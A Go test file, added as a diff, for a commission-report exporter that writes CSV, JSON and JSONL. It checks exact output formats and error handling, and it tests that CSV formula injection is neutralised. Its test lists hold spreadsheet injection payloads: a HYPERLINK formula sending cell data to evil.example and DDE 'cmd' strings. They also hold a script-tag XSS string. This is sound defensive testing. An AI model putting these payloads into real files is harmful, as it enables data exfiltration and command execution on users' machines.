@@ -1,0 +1,232 @@
+package reports_test
+
+import (
+	"encoding/csv"
+	"encoding/json"
+	"errors"
+	"io"
+	"slices"
+	"strings"
+	"testing"
+
+	"rebatedesk/affiliate"
+	"rebatedesk/reports"
+)
+
+// Programs of others read these names.
+var headers = map[reports.ExportKind]string{
+	reports.ExportCommissions:   "deal_time_utc,deal_time_ms,account,uid,invite_code,product_type,symbol,source_type,coin,taker_amount,maker_amount,fee,rate,commission,first_seen_utc",
+	reports.ExportInvitees:      "account,uid,invite_code,register_time_utc,kyc,first_deposit_utc,first_trade_utc,last_deposit_utc,last_trade_utc,first_seen_utc,last_seen_utc",
+	reports.ExportSubAffiliates: "account,sub_affiliate_uid,product_type,date,trading_volume,net_trading_fee,paid_commission",
+	reports.ExportDaily:         "date,account,product_type,coin,source_type,records,fee,commission,taker_amount,maker_amount",
+}
+
+// everyKind fills a desk with one row of each kind, with unknown values where
+// there can be any.
+func everyKind(t *testing.T) *desk {
+	d := newDesk(t, "UTC")
+	c := trade(today, spot, 1, "-0.0682571")
+	c.Source, c.Rate, c.MakerAmount, c.TakerAmount = affiliate.SubAgent, "", "-0.00", "98765432109876543210.000000000000000003"
+	d.read("main", spot, days(0, 0), c)
+	d.readInvitees("main", days(0, 0), affiliate.Invitee{
+		UID: "4667776801", InviteCode: "spring", RegisterTime: midnight(today), KYC: affiliate.FlagOf(false), FirstTrade: midnight(today) + 1})
+	_, err := d.store.ReplaceSubAffiliateDays(t.Context(),
+		d.slice("main", affiliate.Stream{Kind: affiliate.SubAffiliates, Product: affiliate.Futures}, days(0, 0)),
+		[]affiliate.SubAffiliateDay{{UID: "77", Product: affiliate.Futures, Date: today, TradingVolume: "1.50", PaidCommission: "-3"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return d
+}
+
+// Each kind byte by byte, with numbers as they were received.
+func TestFormats(t *testing.T) {
+	d := everyKind(t)
+	rows := map[reports.ExportKind][2]string{
+		reports.ExportCommissions: {
+			"2026-09-15T01:00:00.000Z,1789434000000,main,4667776801,spring,SPOT,BTCUSDT,sub,USDT,98765432109876543210.000000000000000003,-0.00,1,,-0.0682571,2026-09-15T12:00:00.000Z",
+			`{"deal_time_utc":"2026-09-15T01:00:00.000Z","deal_time_ms":1789434000000,"account":"main","uid":"4667776801","invite_code":"spring","product_type":"SPOT","symbol":"BTCUSDT","source_type":"sub","coin":"USDT","taker_amount":"98765432109876543210.000000000000000003","maker_amount":"-0.00","fee":"1","rate":null,"commission":"-0.0682571","first_seen_utc":"2026-09-15T12:00:00.000Z"}`},
+		reports.ExportInvitees: {
+			"main,4667776801,spring,2026-09-15T00:00:00.000Z,false,,2026-09-15T00:00:00.001Z,,,2026-09-15T12:00:00.001Z,2026-09-15T12:00:00.001Z",
+			`{"account":"main","uid":"4667776801","invite_code":"spring","register_time_utc":"2026-09-15T00:00:00.000Z","kyc":false,"first_deposit_utc":null,"first_trade_utc":"2026-09-15T00:00:00.001Z","last_deposit_utc":null,"last_trade_utc":null,"first_seen_utc":"2026-09-15T12:00:00.001Z","last_seen_utc":"2026-09-15T12:00:00.001Z"}`},
+		reports.ExportSubAffiliates: {
+			"main,77,FUTURES,2026-09-15,1.50,,-3",
+			`{"account":"main","sub_affiliate_uid":"77","product_type":"FUTURES","date":"2026-09-15","trading_volume":"1.50","net_trading_fee":null,"paid_commission":"-3"}`},
+		reports.ExportDaily: {
+			"2026-09-15,main,SPOT,USDT,sub,1,1,-0.0682571,98765432109876543210.000000000000000003,0",
+			`{"date":"2026-09-15","account":"main","product_type":"SPOT","coin":"USDT","source_type":"sub","records":1,"fee":"1","commission":"-0.0682571","taker_amount":"98765432109876543210.000000000000000003","maker_amount":"0"}`},
+	}
+	if kinds := reports.ExportKinds(); len(kinds) != len(rows) {
+		t.Errorf("there are the kinds %v", kinds)
+	}
+	for kind, row := range rows {
+		for format, want := range map[reports.Format]string{
+			reports.CSV:   headers[kind] + "\r\n" + row[0] + "\r\n",
+			reports.JSON:  "[" + row[1] + "]\n",
+			reports.JSONL: row[1] + "\n",
+		} {
+			text, summary := d.export(kind, format, d.ask("range=today"))
+			if text != want || summary.Rows != 1 {
+				t.Errorf("%s %s, %d rows:\n%s\nwant\n%s", kind, format, summary.Rows, text, want)
+			}
+		}
+	}
+}
+
+func TestEmptyExports(t *testing.T) {
+	d := newDesk(t, "UTC")
+	for _, kind := range reports.ExportKinds() {
+		for format, want := range map[reports.Format]string{reports.CSV: headers[kind] + "\r\n", reports.JSON: "[]\n", reports.JSONL: ""} {
+			text, summary := d.export(kind, format, d.ask("range=all"))
+			if text != want || summary.Rows != 0 || len(summary.Totals) != 0 {
+				t.Errorf("%s %s of nothing: %q, %+v", kind, format, text, summary)
+			}
+		}
+	}
+}
+
+// formulas are texts that some spreadsheet runs.
+var formulas = []string{
+	`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
+	"＝1+1", "＋1", "－1", "＠SUM(1)", "=", "-",
+}
+
+// harmless are texts that are written as they are.
+var harmless = []string{
+	"", "spring", "a=b", "a-b", "1+1", "'quoted'", `say "hi"`, `"`, `""`, "a,b", ",", "a\nb", "a\r\nb", "a\rb", " padded ", "日本語", "🦜",
+	"\u202eabc", "</script><script>alert(1)</script>", "<b>&amp;", "\u2028", `\`, `\.`, "null", "0012",
+}
+
+// Text is written so that it comes back as it was, but for a mark before what a
+// spreadsheet would run.
+func TestTextSurvives(t *testing.T) {
+	d := newDesk(t, "UTC")
+	texts := slices.Concat(formulas, harmless)
+	var records []affiliate.Commission
+	for i, text := range texts {
+		c := trade(today, spot, i, "-1.5")
+		c.Symbol, c.Fee, c.DealTime = text, "-0.1", c.DealTime+affiliate.Millis(i)
+		records = append(records, c)
+	}
+	d.read("main", spot, days(0, 0), records...)
+	q := d.ask("range=today&sort=time")
+
+	text, _ := d.export(reports.ExportCommissions, reports.CSV, q)
+	if ends := strings.Count(text, "Z\r\n"); ends != len(texts) || strings.Contains(text, "Z\n") {
+		t.Errorf("%d of %d lines end in CRLF", ends, len(texts))
+	}
+	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	if err != nil || len(lines) != len(texts)+1 {
+		t.Fatalf("%d lines, %v", len(lines), err)
+	}
+	for i, line := range lines[1:] {
+		want := strings.ReplaceAll(texts[i], "\r\n", "\n") // as every reader of CSV in Go has it
+		if i < len(formulas) {
+			want = "'" + want
+		}
+		if line[6] != want || line[11] != "-0.1" || line[13] != "-1.5" {
+			t.Errorf("%q is read as %q, fee %s, commission %s", texts[i], line[6], line[11], line[13])
+		}
+	}
+	for _, cell := range []string{"\"a\r\nb\"", "\"a\nb\"", "\"a\rb\"", "\"'\r=1+1\""} {
+		if !strings.Contains(text, ","+cell+",") {
+			t.Errorf("the cell %q was changed", cell)
+		}
+	}
+
+	text, _ = d.export(reports.ExportCommissions, reports.JSON, q)
+	var objects []struct {
+		Symbol     *string
+		Commission string
+	}
+	if err := json.Unmarshal([]byte(text), &objects); err != nil || len(objects) != len(texts) {
+		t.Fatalf("%d objects, %v", len(objects), err)
+	}
+	lined, _ := d.export(reports.ExportCommissions, reports.JSONL, q)
+	if n := strings.Count(lined, "\n"); n != len(texts) {
+		t.Errorf("%d lines of %d objects", n, len(texts))
+	}
+	if strings.Contains(text, "</script>") {
+		t.Error("the end of a script can be read in JSON")
+	}
+	for i, o := range objects {
+		if texts[i] == "" && o.Symbol != nil || texts[i] != "" && (o.Symbol == nil || *o.Symbol != texts[i]) || o.Commission != "-1.5" {
+			t.Errorf("%q is read as %v, %s", texts[i], o.Symbol, o.Commission)
+		}
+	}
+}
+
+// The guard stands on every column of text that comes from outside.
+func TestFormulasInEveryTextColumn(t *testing.T) {
+	d := newDesk(t, "UTC")
+	const evil = "=1+1"
+	c := trade(today, spot, 1, "1")
+	c.UID, c.Symbol, c.Source, c.Coin = evil, evil, evil, evil
+	d.read(evil, spot, days(0, 0), c)
+	d.readInvitees(evil, days(0, 0), affiliate.Invitee{UID: evil, InviteCode: evil, RegisterTime: midnight(today)})
+	_, err := d.store.ReplaceSubAffiliateDays(t.Context(),
+		d.slice(evil, affiliate.Stream{Kind: affiliate.SubAffiliates, Product: affiliate.Spot}, days(0, 0)),
+		[]affiliate.SubAffiliateDay{{UID: evil, Product: affiliate.Spot, Date: today, TradingVolume: "-1"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for kind, cells := range map[reports.ExportKind]int{
+		reports.ExportCommissions: 6, reports.ExportInvitees: 3, reports.ExportSubAffiliates: 2, reports.ExportDaily: 3,
+	} {
+		text, _ := d.export(kind, reports.CSV, d.ask("range=today"))
+		if guarded, all := strings.Count(text, "'"+evil), strings.Count(text, evil); guarded != cells || all != cells {
+			t.Errorf("%s: %d of %d cells are guarded, want %d:\n%s", kind, guarded, all, cells, text)
+		}
+		if strings.Contains(text, "'-") {
+			t.Errorf("%s: a number is guarded:\n%s", kind, text)
+		}
+	}
+}
+
+func TestContentTypes(t *testing.T) {
+	for format, want := range map[reports.Format]string{
+		reports.CSV: "text/csv; charset=utf-8; header=present", reports.JSON: "application/json; charset=utf-8", reports.JSONL: "application/jsonl; charset=utf-8",
+	} {
+		if got := format.ContentType(); got != want {
+			t.Errorf("%s is %s, want %s", format, got, want)
+		}
+	}
+}
+
+// closedPipe takes so much and then fails.
+type closedPipe struct{ left int }
+
+var errPipe = errors.New("nobody reads on")
+
+func (p *closedPipe) Write(b []byte) (int, error) {
+	if p.left -= len(b); p.left < 0 {
+		return 0, errPipe
+	}
+	return len(b), nil
+}
+
+// What cannot be written is an error at once, however it is buffered.
+func TestExportIntoABrokenPipe(t *testing.T) {
+	d := newDesk(t, "UTC")
+	var records []affiliate.Commission
+	for i := range 2000 {
+		records = append(records, trade(today, spot, i, "1"))
+	}
+	d.read("main", spot, days(0, 0), records...)
+	for _, format := range []reports.Format{reports.CSV, reports.JSON, reports.JSONL} {
+		for _, room := range []int{0, 100_000} {
+			e := d.open(reports.ExportCommissions, d.ask("range=today"))
+			if _, err := e.Write(t.Context(), &closedPipe{room}, format); !errors.Is(err, errPipe) {
+				t.Errorf("%s with room for %d bytes: %v", format, room, err)
+			}
+			if err := e.Close(); err != nil {
+				t.Error(err)
+			}
+		}
+	}
+	e := d.open(reports.ExportCommissions, d.ask("range=today"))
+	defer e.Close()
+	if _, err := e.Write(t.Context(), io.Discard, "xml"); err == nil || !strings.Contains(err.Error(), "xml") {
+		t.Errorf("xml: %v", err)
+	}
+}
